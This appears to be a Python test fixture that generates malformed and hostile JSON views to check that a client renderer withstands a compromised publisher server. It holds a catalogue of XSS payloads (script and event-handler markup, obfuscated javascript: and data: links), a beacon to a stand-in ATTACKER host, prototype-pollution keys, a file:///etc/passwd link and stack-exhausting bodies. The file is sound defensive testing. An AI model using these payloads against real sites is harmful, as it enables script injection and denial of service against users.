"""What a publisher's server could send once somebody else has it: views, each wrong in one way."""

from __future__ import annotations

import copy
import json
import random
from collections.abc import Iterator
from typing import Any

#: Sets a mark and asks the attacker's server, in whatever way it comes to run.
RUN = "window.ran=(window.ran||0)+1;void(new Image().src='ATTACKER/ran')"
WRONG = [None, True, 0, -1, 1e308, "", "x", [], {}, [[]], ["p"], {"__proto__": {"view": []}}]
WRONG += [{"toString": 1, "valueOf": 1}]
FIELDS = (
    *("schema", "id", "lang", "dir", "revision", "status", "changed", "valid_until", "url"),
    "view",
)
#: What a browser loads, runs, sends or navigates by; what hides behind other names; no tags at all.
TAGS = """script SCRIPT style svg math iframe frame frameset object embed applet link meta base form
    input button textarea select option img image picture source video audio track canvas template
    slot noscript plaintext xmp title html head body marquee portal dialog details fencedframe
    treatment-card safety-disclaimer x-y annotation-xml a> p/onclick=1 __proto__ constructor
    toString prototype""".split()
TAGS += ["", " ", "p ", " p", "p\0", "p script", "\u017fcript", "p" * 5000]
ATTRIBUTES = """onclick onerror onload onmouseover onfocus onanimationstart ontoggle onbegin style
    src srcset srcdoc data action formaction href xlink:href ping target download id name slot is
    contenteditable autofocus tabindex popover background poster manifest http-equiv content
    __proto__ constructor innerHTML outerHTML""".split()
_SCHEME = ["javascript", "JaVaScRiPt", "data", "vbscript", "blob", "filesystem", "view-source"]
LINKS = [
    *(f"{scheme}:{RUN}" for scheme in _SCHEME),
    *(f"{space}javascript:{RUN}" for space in "\0\1\t\n\r \x1f\x7f\xa0\u2028\ufeff\u200b"),
    *(f"java{space}script:{RUN}" for space in "\0\1\t\n\r \u200b\xad"),
    *(f"javascript{space}:{RUN}" for space in "\t\n\r \u200b"),
    f"&#106;avascript:{RUN}", f"javascript&colon;{RUN}", f"%6aavascript:{RUN}",
    f"\\u006aavascript:{RUN}", f"javascript://%0a{RUN}", f"feed:javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "//attacker.invalid/", "\\\\attacker.invalid", "/logout", "?logout", "#", "", "https",
    "file:///etc/passwd", "chrome://settings", "about:blank", "intent:x", "sms:1", "ws://x/",
    f"https\n:javascript:{RUN}", f"mailto\t:{RUN}", f"x\nhttps:javascript:{RUN}",
]  # fmt: skip
MARKUP = [
    f"<script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f'</article></div><svg onload="{RUN}">',
    f'<!--><img src=x onerror="{RUN}">-->',
    f"]]><script>{RUN}</script>",
    f"${{{RUN}}} {{{{constructor.constructor('{RUN}')()}}}}",
    "\u202e\u2066\u2028\u2029\0\ufffe\ud800",
]


def views(good: dict[str, Any], attacker: str, *, large: bool = False) -> dict[str, bytes]:
    """Bodies by the id of the card they answer for; each holds the attacker's address.

    :param good: a view as our own server sends it.
    :param large: those that would make a page slow, in place of all others.
    """
    found = {}
    many = ((f"view: {name}", {**good, "view": view}) for name, view in _large())
    for number, (name, made) in enumerate(many if large else _all(good)):
        own = f"c{number}"
        if isinstance(made, dict) and made.get("id") == good["id"]:
            made["id"] = own
        body = made if isinstance(made, bytes) else json.dumps(made).encode()
        body = body.replace(b"ATTACKER", attacker.encode()).replace(b"OWN-ID", own.encode())
        found[own] = body
        NAMES[own] = name
    return found


#: What is wrong with each of them, for those who read a failure.
NAMES: dict[str, str] = {}


def _all(good: dict[str, Any]) -> Iterator[tuple[str, Any]]:
    yield from _fields({**good, "view": [["article", {}, ["h1", {}, "TENS"], "Text."]]})
    yield from ((f"view: {name}", {**good, "view": view}) for name, view in _nodes())
    yield from _mutations(good)
    yield from _bodies(good)


def _fields(good: dict[str, Any]) -> Iterator[tuple[str, Any]]:
    for field in FIELDS:
        for wrong in WRONG:
            yield f"{field}: {wrong!r}", {**good, field: wrong}
        for markup in MARKUP:
            yield f"{field}: {markup!r}", {**good, field: markup}
        yield f"no {field}", {key: value for key, value in good.items() if key != field}
    for name in ("__proto__", "constructor", "prototype", "toString", "then", "toJSON", "length"):
        yield f"more: {name}", {**good, name: {"view": [], "status": "recalled"}}


def _nodes() -> Iterator[tuple[str, Any]]:
    """A view of one element, in which one thing is not as it should be."""
    for tag in TAGS:
        attributes = {"src": "ATTACKER/tag", "data": "ATTACKER/tag", "href": "ATTACKER/tag"}
        yield f"<{tag[:20]}>", [["article", {}, "Text.", [tag, {**attributes, "onload": RUN}, RUN]]]
        yield f"<{tag[:20]}> at the top", [[tag, {"onerror": RUN, "style": "all: unset"}, "Text."]]
    for name in ATTRIBUTES:
        for tag in ("p", "a", "article", "td", "abbr"):
            for value in (RUN, "ATTACKER/attribute", f"javascript:{RUN}"):
                yield f"<{tag} {name}={value[:12]}>", [[tag, {name: value}, "Text."]]
    for link in LINKS:
        for value in (link, [link], ["https://a.example/", link]):
            yield f"link {value!r}", [["p", {}, ["a", {"href": value, "rel": "opener"}, "Text."]]]
    for markup in MARKUP:
        yield (
            f"text {markup!r}",
            [["h1", {"title": markup, "class": markup, "part": markup}, markup]],
        )
    for wrong in WRONG:
        yield f"tag {wrong!r}", [[wrong, {}, "Text."]]
        yield f"attributes {wrong!r}", [["p", wrong, "Text."]]
        yield f"an attribute {wrong!r}", [["a", {"href": wrong, "class": wrong}, "Text."]]
        yield f"country {wrong!r}", [["p", {"country": wrong, "variant": wrong}, "Text."]]
        yield f"child {wrong!r}", [["p", {}, wrong, "Text."]]
        yield f"view {wrong!r}", wrong
    yield "nothing in it", [["article", {}, ["p", {}, " \n"]]]
    yield "nothing to see", [["p", {}, "\u200b\u2800\u00ad"]]
    yield "hidden by its tag", [["rp", {}, "Text."]]
    yield "all of it for another country", [["p", {"country": "ZZ"}, "Text."]]


def _mutations(good: dict[str, Any]) -> Iterator[tuple[str, Any]]:
    """The good view with three places of its tree replaced, the same ones every time."""
    pick = random.Random(1)
    for number in range(150):
        view = copy.deepcopy(good["view"])
        for _ in range(3):
            node = _somewhere(view, pick)
            place = pick.randrange(len(node))
            node[place] = copy.deepcopy(
                pick.choice([*WRONG, *TAGS, *MARKUP, ["a", {"href": LINKS[0]}]])
            )
        yield f"mutation {number}", {**good, "view": view}


def _somewhere(view: list[Any], pick: random.Random) -> list[Any]:
    node = view
    while lists := [child for child in node if isinstance(child, list) and child]:
        node = pick.choice(lists)
        if pick.random() < 0.2:
            break
    return node


def _bodies(good: dict[str, Any]) -> Iterator[tuple[str, bytes]]:
    """What is no JSON, or not quite."""
    whole = json.dumps({**good, "id": "OWN-ID"}).encode()
    yield "two documents", whole + whole
    yield "cut", whole[: len(whole) // 2]
    yield "a callback", b"alert(" + whole + b")"
    yield "a prefix", b")]}'\n" + whole
    yield "UTF-16", whole.decode().encode("utf-16")
    yield "not UTF-8", whole.replace(b"Published", b"\xff\xfe\xc0\xaf")
    yield "the same key twice", whole[:-1] + b',"view":[["script",{},"' + RUN.encode() + b'"]]}'
    yield "NaN", whole.replace(b'"active"', b"NaN")
    yield "HTML", f"<!doctype html><script>{RUN}</script>".encode()
    yield "deep", b"[" * 200_000
    yield "deep and whole", b'{"view":' + b"[" * 100_000 + b"]" * 100_000 + b"}"


def _large() -> Iterator[tuple[str, Any]]:
    """What would make a page slow, or use up the stack."""
    yield "200,000 texts", ["Text."] * 200_000
    yield "90,000 texts", ["Text."] * 90_000
    yield "90,000 texts in an element", [["p", {}, *["Text."] * 90_000]]
    yield "90,000 elements", [["p", {}]] * 90_000
    yield "50,000 attributes", [["p", {f"a{n}": "x" for n in range(50_000)}, "Text."]]
    yield "a text of 4 MB", [["p", {}, "Text. " * 700_000]]
    yield "an attribute of 4 MB", [["p", {"class": "class " * 700_000}, "Text."]]
    yield "300 levels", [_nested("div", 300)]
    yield "7,500 lists in one another", [_nested("ul", 100)] * 75


def _nested(tag: str, levels: int) -> Any:
    node: Any = "Text."
    for _ in range(levels):
        node = [tag, {}, node]
    return node
